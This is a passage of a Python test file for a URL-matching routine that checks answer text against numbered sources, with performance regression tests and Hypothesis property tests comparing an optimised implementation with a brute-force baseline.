def test_no_text_takes_many_times_as_long_as_prose(unit: str) -> None:
    assert seconds(repeated(unit, CHARS), Evidence(())) < 30 * seconds(repeated(PROSE, CHARS), Evidence(()))


def test_the_number_of_the_jobs_own_urls_hardly_matters() -> None:
    """A question may name URLs of a thousand different lengths, and an answer may contain thousands of URLs."""
    one, many = ("\n".join(f"https://{'a' * length}" for length in lengths) for lengths in ([1], range(1, 1000)))
    answer = repeated("ab://c\n", CHARS)
    assert seconds(answer, Evidence((), question=many)) < 5 * seconds(answer, Evidence((), question=one))


def sources_at(urls: Iterable[str]) -> Evidence:
    return Evidence(tuple(NumberedSource(number, url, url, None, ()) for number, url in enumerate(urls, 1)))


def test_a_found_url_is_compared_with_no_longer_ones() -> None:
    """In an earlier version, the URLs of 128 sources made a million characters of short URLs take six seconds."""
    links = _Given.of(sources_at(f"https://s.example/{'a' * length}" for length in range(100)))
    assert links._lengths_within(len("ab://c")) == []
    assert links._lengths_within(len("https://s.example/aa")) == [20, 19, 17]


class ComparesWithAll(_Given):
    """Compares each found URL with the given URLs of all lengths."""

    def _lengths_within(self, most: int) -> list[int]:
        return sorted({len(url) for url in self.links}, reverse=True)


URLS = st.lists(
    st.sampled_from(
        ["http", "https", "ab", ":", "://", ":/", "\\", "//", "/", "www.", "a", "b.example", "é", "(", ")", "(x)", "[",
         "]", "'", '"', "|", "。", "<", ">", "~", ".", "_", "?x=", "#"]
    ),
    max_size=10,
).map("".join)  # fmt: skip


@settings(max_examples=drawn(300))
@given(st.lists(URLS, max_size=4), st.data())
def test_the_urls_that_are_compared_are_enough(urls: list[str], data: st.DataObject) -> None:
    urls = [f"https://{url}" for url in urls] + urls
    text = "".join(data.draw(st.lists(st.sampled_from([*urls, " ", "\n"]) | URLS, max_size=8)))
    evidence = sources_at(urls)
    of_all = ComparesWithAll(*astuple(_Given.of(evidence)))
    assert _Given.of(evidence).cleaned(text) == of_all.cleaned(text)
